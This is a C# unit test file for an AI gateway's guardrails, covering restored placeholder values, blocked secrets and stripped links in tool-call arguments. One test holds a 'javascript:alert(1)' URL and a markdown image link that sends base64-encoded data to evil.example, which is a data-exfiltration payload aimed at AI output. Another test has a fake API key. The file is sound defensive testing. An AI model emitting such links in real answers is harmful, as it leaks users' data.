using System.Text;
using System.Text.Json;
using System.Text.Json.Nodes;
using Artisan.Core.Gateway.Pipeline;
using Artisan.Core.Gateway.Pipeline.Stages;
using Artisan.Core.Gateway.Providers;
using Artisan.Core.Guardrails.Policy;
using Artisan.Core.Kernel;
using Shouldly;
using Xunit;

namespace Artisan.Core.Tests.Guardrails.Stages;

/// <summary>Tools get the values that stood in the prompt, whole or in pieces, in JSON that can be read.</summary>
public sealed class ToolCallAnswerTests
{
    private readonly GuardCalls _guards = new();

    [Fact]
    public async Task Values_are_put_back_into_the_arguments_of_a_complete_answer()
    {
        byte[] body = Encoding.UTF8.GetBytes("""{"choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{"id":"c","type":"function","function":{"name":"mail","arguments":"{\"to\":\"<EMAIL_ADDRESS_1>\",\"note\":\"<SECRET_1>\"}"}}]},"finish_reason":"tool_calls"}]}""");
        CompleteAnswer answer = await CompleteAnswers.FilterAsync(new CompleteAnswer { By = null!, Body = body }, _guards.Filter(Call()), CancellationToken.None);
        JsonNode arguments = JsonNode.Parse(JsonNode.Parse(answer.Body.Span)!["choices"]![0]!["message"]!["tool_calls"]![0]!["function"]!["arguments"]!.GetValue<string>())!;
        (arguments["to"]!.GetValue<string>(), arguments["note"]!.GetValue<string>()).ShouldBe(("anna@kestrel.example", "a\"b\\c"));
    }

    [Theory]
    [InlineData(1)]
    [InlineData(5)]
    [InlineData(100)]
    public async Task Values_are_put_back_into_arguments_that_come_in_pieces(int size)
    {
        var calls = new StreamedToolCalls(_guards.Filter(Call()));
        var sent = new List<ProviderEvent>();
        foreach (int call in (int[])[0, 1])
        {
            bool first = true;
            foreach (string piece in """{"to":"<EMAIL_ADDRESS_1>","n":1}""".Chunk(size).Select(c => new string(c)))
            {
                sent.Add(Piece(call, piece, first));
                first = false;
            }
        }
        sent.ShouldAllBe(e => calls.Take(e));
        IReadOnlyList<ProviderEvent> left = await calls.ReleaseAsync(CancellationToken.None);
        left.Count.ShouldBe(sent.Count);
        foreach (int call in (int[])[0, 1])
            JsonNode.Parse(Joined(left, call))!["to"]!.GetValue<string>().ShouldBe("anna@kestrel.example");
        JsonNode.Parse(left[0].Data.Span)!["choices"]![0]!["delta"]!["tool_calls"]![0]!["function"]!["name"]!.GetValue<string>().ShouldBe("mail");
        (await calls.ReleaseAsync(CancellationToken.None)).ShouldBeEmpty();
    }

    [Fact]
    public async Task A_key_in_arguments_that_come_in_pieces_is_withheld_where_the_policy_says_so()
    {
        var policy = new GuardrailPolicy { Output = new AnswerPolicy { Secrets = GuardAction.Block } };
        var calls = new StreamedToolCalls(_guards.Filter(GuardCalls.Chat("""{"model":"m","messages":[{"role":"user","content":"Hi"}]}""", policy)));
        foreach (string piece in """{"key":"the API key sk-proj-Zq83hfKd02mXcVb91LqPz7Rt5Ys4Wn6A"}""".Chunk(7).Select(c => new string(c)))
            calls.Take(Piece(0, piece, false)).ShouldBeTrue();
        (await Should.ThrowAsync<ArtisanException>(calls.ReleaseAsync(CancellationToken.None).AsTask())).Code.ShouldBe(ErrorCode.ContentRefused);
    }

    [Fact]
    public void Where_nothing_is_to_be_changed_tool_calls_are_not_held() =>
        new StreamedToolCalls(_guards.Filter(GuardCalls.Chat("""{"model":"m","messages":[{"role":"user","content":"Hi"}]}"""))).Take(Piece(0, "{}", true)).ShouldBeFalse();

    [Fact]
    public async Task Taking_a_link_out_of_arguments_leaves_JSON()
    {
        string arguments = JsonSerializer.Serialize(new { url = "javascript:alert(1)", image = "![x](https://evil.example/p.png?d=c2VjcmV0LWN1c3RvbWVyLWxpc3Qtb2YtdGhlLXllYXI)" });
        string kept = await _guards.Filter(GuardCalls.Chat("""{"model":"m","messages":[{"role":"user","content":"Hi"}]}""")).ApplyAsync(arguments, CancellationToken.None);
        kept.ShouldNotContain("evil.example");
        JsonNode.Parse(kept)!["url"].ShouldNotBeNull();
    }

    private static AiCall Call()
    {
        AiCall call = GuardCalls.Chat("""{"model":"m","messages":[{"role":"user","content":"Hi"}]}""");
        call.Placeholders = new Dictionary<string, string> { ["<EMAIL_ADDRESS_1>"] = "anna@kestrel.example", ["<SECRET_1>"] = "a\"b\\c" };
        return call;
    }

    private static ProviderEvent Piece(int call, string arguments, bool first)
    {
        object function = first ? new { name = "mail", arguments } : new { arguments };
        return new ProviderEvent { Data = JsonSerializer.SerializeToUtf8Bytes(new { id = "x", choices = new[] { new { index = 0, delta = new { tool_calls = new[] { new { index = call, function } } } } } }), HasToolCall = true };
    }

    private static string Joined(IEnumerable<ProviderEvent> events, int call) => string.Concat(events
        .Select(e => JsonNode.Parse(e.Data.Span)!["choices"]![0]!["delta"]!["tool_calls"]![0]!)
        .Where(c => c["index"]!.GetValue<int>() == call).Select(c => c["function"]!["arguments"]!.GetValue<string>()));
}
